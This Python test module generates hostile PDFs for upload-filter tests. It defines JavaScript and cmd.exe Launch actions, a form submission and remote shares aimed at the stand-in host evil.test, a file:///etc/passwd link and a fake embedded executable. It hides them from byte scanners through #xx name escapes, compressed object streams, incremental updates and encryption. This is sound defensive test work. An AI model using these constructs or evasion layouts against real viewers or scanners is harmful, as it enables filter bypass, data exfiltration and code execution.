"""Hand-written PDFs for the upload tests: each dangerous construct a viewer acts on, placed
where a viewer finds it, laid out as a plain file, inside a compressed object stream, in an
incremental update or encrypted, and with every name spelled in any mix of `#xx` escapes.

Names are decoded by every real PDF parser (`/J#61vaScript` is `/JavaScript`), so a check that
looks for literal bytes misses them; a compressed object stream hides them from a byte scan
altogether. These files are what a tester would try.
"""

import io
import random
import re
import zlib
from collections.abc import Callable

import pikepdf

Objects = dict[int, bytes | tuple[bytes, bytes]]  # number -> dictionary, or (dictionary, data)
Spelling = Callable[[bytes], bytes]

CONTENT = b"0 0 1 rg 20 20 100 60 re f"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R"


def plain(name: bytes) -> bytes:
    return name


def random_spelling(rng: random.Random, share: float) -> Spelling:
    """Write each character of a name as #xx with probability `share`, in upper or lower case
    hex; the name stays the same name to any parser."""

    def spell(name: bytes) -> bytes:
        out = bytearray(b"/")
        for byte in name[1:]:
            if rng.random() < share:
                code = f"#{byte:02x}"
                out += (code.upper() if rng.random() < 0.5 else code).encode()
            else:
                out.append(byte)
        return bytes(out)

    return spell


_NAME_OR_STRING = re.compile(rb"\((?:\\.|[^\\()])*\)|/[A-Za-z0-9]+")


def respell(text: bytes, spell: Spelling) -> bytes:
    """Every name token in a dictionary's text through `spell`; strings left alone."""
    return _NAME_OR_STRING.sub(
        lambda match: match.group(0) if match.group(0).startswith(b"(") else spell(match.group(0)),
        text,
    )


# --- The documents ------------------------------------------------------------------------------


def benign() -> Objects:
    """One page with a rectangle, a web link and an open action that only shows page one."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R"
            b" /Annots [9 0 R] >>"
        ),
        4: (b"<< /Length %LEN% >>", CONTENT),
        9: (
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /Border [0 0 0]"
            b" /A << /S /URI /URI (https://www.weerbaarbestuur.nl/) >> >>"
        ),
    }


ACTIONS = {
    "javascript": b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
    "javascript-stream": b"<< /S /JavaScript /JS 8 0 R >>",
    "launch": b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
    "submit-form": b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/collect) >> >>",
    "import-data": b"<< /S /ImportData /F (gegevens.fdf) >>",
    "remote-goto": b"<< /S /GoToR /F (//evil.test/share/brief.pdf) /D [0 /Fit] >>",
    "file-uri": b"<< /S /URI /URI (file:///etc/passwd) >>",
    "smb-uri": b"<< /S /URI /URI (smb://evil.test/share) >>",
    "script-uri": b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "rendition": b"<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>",
}
SCRIPT_STREAM = (b"<< /Length %LEN% >>", b"app.alert(1)")

# Where a viewer finds an action. Each returns the objects to change or add (object 5 is the
# action).
PLACEMENTS = {
    "open-action": lambda: {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"},
    "next-after-a-harmless-open-action": lambda: {
        1: (
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> >>"
        )
    },
    "document-aa": lambda: {1: b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 5 0 R >> >>"},
    "page-aa": lambda: {3: PAGE + b" /AA << /O 5 0 R >> >>"},
    "link-annotation": lambda: {
        9: b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 5 0 R >>",
    },
    "form-field-aa": lambda: {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] >> >>",
        3: PAGE + b" /Annots [10 0 R] >>",
        10: (
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (naam) /Rect [0 0 90 20] /P 3 0 R"
            b" /AA << /K 5 0 R >> >>"
        ),
    },
    "names-tree": lambda: {
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 11 0 R >> >>",
        11: b"<< /Names [(start) 5 0 R] >>",
    },
    "unreferenced-object": lambda: {},
}

# Dangerous things that are not actions: files inside the PDF, XFA forms (which carry
# scripts), media players.
EMBEDDED_FILE = (b"<< /Type /EmbeddedFile /Length %LEN% >>", b"MZ\x90\x00not really a program")
CONSTRUCTS = {
    "embedded-files": lambda: {
        1: (
            b"<< /Type /Catalog /Pages 2 0 R"
            b" /Names << /EmbeddedFiles << /Names [(a.exe) 12 0 R] >> >> >>"
        ),
        12: b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 13 0 R >> >>",
        13: EMBEDDED_FILE,
    },
    "file-attachment-annotation": lambda: {
        9: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 12 0 R >>",
        12: b"<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> >>",
        13: EMBEDDED_FILE,
    },
    "xfa-form": lambda: {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 14 0 R >> >>",
        14: (
            b"<< /Length %LEN% >>",
            b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script>'
            b"</xdp:xdp>",
        ),
    },
    "rich-media-annotation": lambda: {
        9: (
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 20 20]"
            b" /RichMediaContent << /Assets << /Names [(f.swf) 12 0 R] >> >> >>"
        ),
        12: b"<< /Type /Filespec /F (f.swf) /EF << /F 13 0 R >> >>",
        13: EMBEDDED_FILE,
    },
}


def cases() -> dict[str, Callable[[], Objects]]:
    """Every hostile change to the benign document, by name."""
    found = {}
    for action, text in ACTIONS.items():
        for where, place in PLACEMENTS.items():
            if action in ("file-uri", "smb-uri", "script-uri") and where == "unreferenced-object":
                continue  # an unreachable link does nothing; other actions are refused anywhere

            def build(text=text, place=place, action=action):
                changes = {**place(), 5: text}
                if action == "javascript-stream":
                    changes[8] = SCRIPT_STREAM
                return changes

            found[f"{action}/{where}"] = build
    found.update(CONSTRUCTS)
    return found


CASES = cases()


# --- Writing the file -----------------------------------------------------------------------------


def _object(number: int, value, spell: Spelling) -> bytes:
    if isinstance(value, tuple):
        dictionary, data = value
        dictionary = respell(dictionary, spell).replace(b"%LEN%", str(len(data)).encode())
        return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (number, dictionary, data)
    return b"%d 0 obj\n%s\nendobj\n" % (number, respell(value, spell))


def _xref_table(offsets: dict[int, int]) -> bytes:
    """An xref section with one subsection per object (valid for a first file and an update)."""
    out = b"xref\n"
    if 0 not in offsets:
        out += b"0 1\n0000000000 65535 f \n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    return out


def write_classic(objects: Objects, spell: Spelling = plain) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += _object(number, objects[number], spell)
    start = len(out)
    out += _xref_table(offsets)
    out += respell(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (max(objects) + 1), spell)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def write_incremental(base: Objects, changes: Objects, spell: Spelling = plain) -> bytes:
    """The benign file, then an update that adds or replaces `changes`: a viewer reads the
    newest version of each object."""
    first = write_classic(base, spell)
    previous = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    out = bytearray(first)
    offsets = {}
    for number in sorted(changes):
        offsets[number] = len(out)
        out += _object(number, changes[number], spell)
    start = len(out)
    size = max([*base, *changes]) + 1
    out += _xref_table(offsets)
    out += respell(b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n" % (size, previous), spell)
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def write_object_stream(objects: Objects, spell: Spelling = plain) -> bytes:
    """Every object that is not a stream goes into one compressed object stream (PDF 1.5),
    with a compressed cross-reference stream: not one name is visible in the bytes."""
    packed = sorted(n for n, v in objects.items() if not isinstance(v, tuple))
    loose = sorted(n for n, v in objects.items() if isinstance(v, tuple))
    stream_number = max(objects) + 1
    xref_number = stream_number + 1
    header, body = [], bytearray()
    for number in packed:
        header.append(b"%d %d" % (number, len(body)))
        body += respell(objects[number], spell) + b"\n"
    header_bytes = b" ".join(header) + b"\n"
    data = zlib.compress(header_bytes + bytes(body))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in loose:
        offsets[number] = len(out)
        out += _object(number, objects[number], spell)
    offsets[stream_number] = len(out)
    out += _object(
        stream_number,
        (
            b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %%LEN%% >>"
            % (len(packed), len(header_bytes)),
            data,
        ),
        spell,
    )
    offsets[xref_number] = len(out)
    rows = bytearray()
    for number in range(xref_number + 1):
        if number in packed:
            rows += (
                bytes([2])
                + stream_number.to_bytes(4, "big")
                + packed.index(number).to_bytes(2, "big")
            )
        elif number in offsets:
            rows += bytes([1]) + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += bytes([0]) + b"\x00\x00\x00\x00" + b"\xff\xff"
    out += _object(
        xref_number,
        (
            b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode"
            b" /Length %%LEN%% >>" % (xref_number + 1),
            zlib.compress(bytes(rows)),
        ),
        spell,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def write_encrypted(objects: Objects, spell: Spelling = plain) -> bytes:
    """Encrypted with an owner password only (opens without a password, as many bank and
    government PDFs do), with object streams: strings and streams are ciphertext."""
    source = pikepdf.open(io.BytesIO(write_classic(objects, spell)))
    out = io.BytesIO()
    source.save(
        out,
        encryption=pikepdf.Encryption(owner="eigenaar", user="", R=6),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    return out.getvalue()


LAYOUTS = ("classic", "object-stream", "incremental", "encrypted")


def hostile_pdf(case: str, layout: str, spell: Spelling = plain) -> bytes:
    changes = CASES[case]()
    if layout == "incremental":
        return write_incremental(benign(), changes, spell)
    merged = {**benign(), **changes}
    writer = {"classic": write_classic, "object-stream": write_object_stream}.get(layout)
    return writer(merged, spell) if writer else write_encrypted(merged, spell)


def benign_pdf(layout: str, spell: Spelling = plain) -> bytes:
    if layout == "incremental":
        # The update only moves the rectangle: nothing hostile in either revision.
        return write_incremental(benign(), {4: (b"<< /Length %LEN% >>", CONTENT + b"\n")}, spell)
    writer = {"classic": write_classic, "object-stream": write_object_stream}.get(layout)
    return writer(benign(), spell) if writer else write_encrypted(benign(), spell)
